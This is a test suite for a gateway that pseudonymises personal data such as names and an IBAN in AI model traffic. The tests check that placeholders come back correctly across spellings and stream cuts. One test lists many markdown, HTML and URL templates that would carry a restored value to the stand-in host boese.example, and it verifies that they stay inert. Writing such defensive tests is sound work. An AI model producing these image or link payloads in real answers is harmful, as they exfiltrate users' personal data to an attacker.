# SPDX-FileCopyrightText: 2026 KI-Ampel contributors
# SPDX-License-Identifier: EUPL-1.2
"""Values come back whole: however a model writes the placeholder, and wherever a stream cuts it."""

import json
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gateway.detect.engine import Span
from gateway.pseudonyms import Pseudonyms

KEY = b"k" * 32
IBAN = "DE89 3704 0044 0532 0130 00"
VALUES = (
    ("person_name", "Erika Beispiel"),
    ("person_name", "Jonas Fritz"),
    ("iban", IBAN),
    ("address", 'Haus "Süd"\n4'),
)


def known() -> tuple[Pseudonyms, dict[str, str]]:
    pseudonyms = Pseudonyms(KEY)
    pseudonyms.learn(VALUES)
    return pseudonyms, {value: pseudonyms.replace(value, [Span(0, len(value), detector)]) for detector, value in VALUES}


P, BY = known()
NAME, JONAS, ACCOUNT, HOUSE = BY.values()


@pytest.mark.parametrize(
    ("said", "read"),
    [
        (f"Antrag von {NAME}.", "Antrag von Erika Beispiel."),
        (f"{NAME}{ACCOUNT}", f"Erika Beispiel{IBAN}"),
        (f"**{NAME}**", "**Erika Beispiel**"),
        (NAME.lower(), "Erika Beispiel"),
        (NAME[1:-1], "Erika Beispiel"),
        (NAME[:-1], "Erika Beispiel"),
        (NAME[1:], "Erika Beispiel]"),
        (f"({NAME[1:-1]})", "(Erika Beispiel)"),
        (f"\\{NAME[:-1]}\\]", "Erika Beispiel"),
        (f"[{NAME}]", "[Erika Beispiel]"),
        (f"{NAME}s Antrag", "Erika Beispiels Antrag"),
        (f"{NAME[1:-1]}s Antrag", "Erika Beispiels Antrag"),
        (f"{JONAS}s Antrag", "Jonas Fritz' Antrag"),
        (f"{NAME}sache", "Erika Beispielsache"),
        (f"{NAME}: ja", "Erika Beispiel: ja"),
        ("[NAME-", "[NAME-"),
        ("[NAME-B2]", "[NAME-B2]"),
        ("[NAME-B2B2B2]", "[NAME-B2B2B2]"),
        (f"x{NAME[1:-1]}", f"x{NAME[1:-1]}"),
        (f"{NAME[1:-1]}-x", f"{NAME[1:-1]}-x"),
        (f"{NAME[1:-1]}B2", f"{NAME[1:-1]}B2"),
        (NAME.replace("NAME", "IBAN"), NAME.replace("NAME", "IBAN")),
    ],
)
def test_spellings(said: str, read: str) -> None:
    assert P.restore(said) == read


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://boese.example/?q={})",
        "![x](//boese.example/?q={})",
        "![x](<https://boese.example/a b {}>)",
        "[Mehr](https://boese.example/{})",
        "[Mehr](&#47;&#47;boese.example/{})",
        "https://boese.example/{}",
        "HTTPS://boese.example/{}",
        "https:boese.example/{}",
        "www.boese.example/{}",
        '<img src="https://boese.example/ {}">',
        "<img src='x {}'>",
        "<img src=&#47;&#47;boese.example/{}>",
        '<a href="\\\\boese.example\\{}">',
        '{{"url": "https://boese.example/?a=b c&q={}"}}',
        "https://{}.boese.example/",
        "https://boese.example/?a={0}&b={0}",
        "![x](https://boese.example/(a){})",
        "![x](https://boese.example/((a)(b)){})",
        "![x](https://boese.example/\\){})",
        "![x](<https://boese.example/\\>{}>)",
        "![x](\n&#47;&#47;boese.example/{})",
        "[x]: &#104;ttps&#58;&#47;&#47;boese.example/{}",
        "[x]:\n  <&#104;ttps&#58;&#47;&#47;boese.example/ {}>",
        '<img src = "/\\boese.example/ {}">',
        "<img src    =    &#47;&#47;boese.example/{}>",
        "<img src=\n'&#47;&#47;boese.example/ {}'>",
        "<img alt='' src= /\\boese.example/{}>",
        '{{"url": "https://boese.example/?a=\\"&q={}"}}',
    ],
)
def test_no_value_is_put_into_an_address(said: str) -> None:
    """A browser that shows such an image would carry the value to whoever wrote the answer."""
    for placeholder in (NAME, NAME[1:-1], NAME.lower()):
        for cut in (None, *range(len(said))):
            text = said.format(placeholder)
            stream = P.stream()
            read = stream.feed(text[:cut]) + (stream.feed(text[cut:]) if cut is not None else "") + stream.flush()
            assert "Erika" not in read
            assert read == text


@pytest.mark.parametrize(
    ("said", "read"),
    [
        ("Siehe https://rathaus.example und {}.", "Siehe https://rathaus.example und Erika Beispiel."),
        ("[Seite](https://rathaus.example) von {}", "[Seite](https://rathaus.example) von Erika Beispiel"),
        ('<img src="x"> {}', '<img src="x"> Erika Beispiel'),
        ("// Kommentar für {}", "// Kommentar für Erika Beispiel"),
        ("und/oder {}", "und/oder Erika Beispiel"),
        ("[Seite](https://rathaus.example/(a)) von {}", "[Seite](https://rathaus.example/(a)) von Erika Beispiel"),
        ("[Name]: {}", "[Name]: Erika Beispiel"),
        ("[Name]:\n{}", "[Name]:\nErika Beispiel"),
        ("[Hinweis]: Frau {}", "[Hinweis]: Frau Erika Beispiel"),
        ("x = {}", "x = Erika Beispiel"),
    ],
)
def test_after_an_address_values_come_back(said: str, read: str) -> None:
    assert P.restore(said.format(NAME)) == read


def test_arguments_of_tools_stay_json() -> None:
    arguments = json.dumps({"wohin": f"{HOUSE}, {NAME}s Tür", "pfad": f"\\{NAME[:-1]}\\]"}, ensure_ascii=False)
    stream = P.stream(in_json=True)
    read = json.loads(stream.feed(arguments) + stream.flush())
    assert read["wohin"] == 'Haus "Süd"\n4, Erika Beispiels Tür'
    assert "Erika Beispiel" in read["pfad"]


@pytest.mark.parametrize("at", range(len(NAME) + 1))
def test_cut_anywhere(at: int) -> None:
    stream = P.stream()
    assert stream.feed(f"Frau {NAME[:at]}") + stream.feed(f"{NAME[at:]} ist da") + stream.flush() == (
        "Frau Erika Beispiel ist da"
    )


def test_little_is_held_back() -> None:
    """At most the longest placeholder; plain text arrives as it comes, but for a word that could begin one."""
    stream = P.stream()
    assert stream.feed("Guten Tag, Frau ") == "Guten Tag, Frau "
    assert stream.feed("[") == ""
    assert stream.feed("1]") == "[1]"
    assert stream.feed("Ende") == "Ende"
    for character in f"\\{NAME[:-1]}" + "B2" * 20:
        stream.feed(character)
        assert len(stream._rest) <= 30


_PIECES = st.sampled_from(
    [
        NAME, NAME[1:-1], NAME.lower(), JONAS, ACCOUNT, HOUSE, "[NAME-", "NAME", "NAM", "[", "]", "\\", "s", "S", "B2",
        "-", " ", "\n", "x", "K", "https://", "](", ")", '"', "<", ">", "//", "src=", "[NAME-B2B2]", "IBAN-",
        "ANGABE-T", "T7",
    ]
)  # fmt: skip
_ANSWERS = st.lists(_PIECES | st.text(max_size=3), max_size=12).map("".join)


@given(_ANSWERS, st.lists(st.integers(0, 200), max_size=12), st.booleans())
@example(f"{NAME[1:-1]}s-", [12], False)
@example(f"{NAME}s", [10, 11, 12, 13], False)
def test_any_cut_reads_the_same(answer: str, cuts: list[int], in_json: bool) -> None:
    places = sorted({0, len(answer), *(cut % (len(answer) + 1) for cut in cuts)})
    whole = P.stream(in_json=in_json)
    expected = whole.feed(answer) + whole.flush()
    stream = P.stream(in_json=in_json)
    assert "".join(stream.feed(answer[start:end]) for start, end in pairwise(places)) + stream.flush() == expected
    single = P.stream(in_json=in_json)
    assert "".join(map(single.feed, answer)) + single.flush() == expected


@given(st.text(max_size=60))
def test_without_placeholders_nothing_changes(answer: str) -> None:
    assert P.restore(answer) == answer
    assert Pseudonyms(KEY).restore(f"{answer}{NAME}") == f"{answer}{NAME}"
